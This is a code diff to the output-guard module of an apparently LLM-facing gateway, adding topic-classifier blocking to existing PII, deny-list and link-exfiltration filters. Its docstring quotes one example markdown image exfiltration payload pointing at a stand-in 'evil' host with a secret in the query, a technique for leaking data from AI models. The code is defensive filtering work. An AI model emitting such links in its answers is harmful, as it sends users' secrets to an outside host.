@@ -8,6 +8,8 @@
 * markdown image/link exfiltration (``![](https://evil/?q=secret)``; ATLAS AML.T0077): an image or link whose
   URL carries a query or fragment, or whose host is not allowed, is removed (redact) or blocks the answer;
 * deny lists: configured categories of terms (whole words, case-insensitive) that block the answer;
+* topics: content categories of the signed topic classifier (:mod:`bastion.guard.topics`: weapons, malware,
+  drugs, self-harm, hate, sexual) that block the answer when their score reaches the category's threshold;
 * per role: each role may have its own PII action and deny categories (like the gateway's output rules).
 
 :class:`SessionScore` accumulates prompt scores across the turns of a conversation with exponential decay,
@@ -46,6 +48,7 @@ _HOST = re.compile(r"^[a-z][a-z0-9+.-]*://([^/?#:@]+(?:@[^/?#:]+)?)", re.IGNOREC
 class RolePolicy:
     pii: str = "redact"
     deny_categories: tuple[str, ...] = ()
+    topics: tuple[str, ...] = ()
 
 
 @dataclass(frozen=True)
@@ -60,6 +63,7 @@ class PolicyConfig:
     deny_categories: tuple[str, ...] = ()  # categories enforced for every role
     roles: Mapping[str, RolePolicy] = field(default_factory=dict)
     leak_words: int = 8
+    topics: tuple[str, ...] = ()  # topic-classifier categories enforced for every role
 
     def __post_init__(self) -> None:
         for name, action in [("pii", self.pii), ("links", self.links)] + [
@@ -76,7 +80,11 @@ class PolicyConfig:
 
     def for_role(self, role: str | None) -> RolePolicy:
         base = self.roles.get(role or "", RolePolicy(pii=self.pii, deny_categories=()))
-        return RolePolicy(pii=base.pii, deny_categories=tuple({*self.deny_categories, *base.deny_categories}))
+        return RolePolicy(
+            pii=base.pii,
+            deny_categories=tuple({*self.deny_categories, *base.deny_categories}),
+            topics=tuple(dict.fromkeys((*self.topics, *base.topics))),
+        )
 
 
 @dataclass(frozen=True)
@@ -124,8 +132,20 @@ def _shingles(text: str, n: int) -> set[tuple[str, ...]]:
 
 
 class OutputPolicy:
-    def __init__(self, config: PolicyConfig | None = None) -> None:
+    def __init__(self, config: PolicyConfig | None = None, *, topic_model: Any = None) -> None:
         self.config = config or PolicyConfig()
+        wanted = set(self.config.topics) | {t for r in self.config.roles.values() for t in r.topics}
+        self._topics = None
+        if wanted:  # load (and verify) the signed topic model only when a policy uses it
+            from bastion.guard.topics import default_topic_model
+
+            self._topics = topic_model if topic_model is not None else default_topic_model()
+            unknown = wanted - set(self._topics.categories)
+            if unknown:
+                raise ConfigError(
+                    f"[guard.output] unknown topics: {', '.join(sorted(unknown))} "
+                    f"(the classifier knows {', '.join(self._topics.categories)})"
+                )
         self._deny = {
             cat: re.compile(r"\b(?:" + "|".join(re.escape(t) for t in terms) + r")\b", re.IGNORECASE)
             for cat, terms in self.config.deny.items()
@@ -176,6 +196,12 @@ class OutputPolicy:
             pattern = self._deny.get(cat)
             if pattern is not None and pattern.search(text):
                 findings.append(f"deny:{cat}")
+                block = True
+        if rule.topics and self._topics is not None:
+            from bastion.guard.normalize import normalize
+
+            for cat in self._topics.classify(normalize(text).text, categories=rule.topics):
+                findings.append(f"topic:{cat}")
                 block = True
         out = text
         links = self._exfil_links(text)
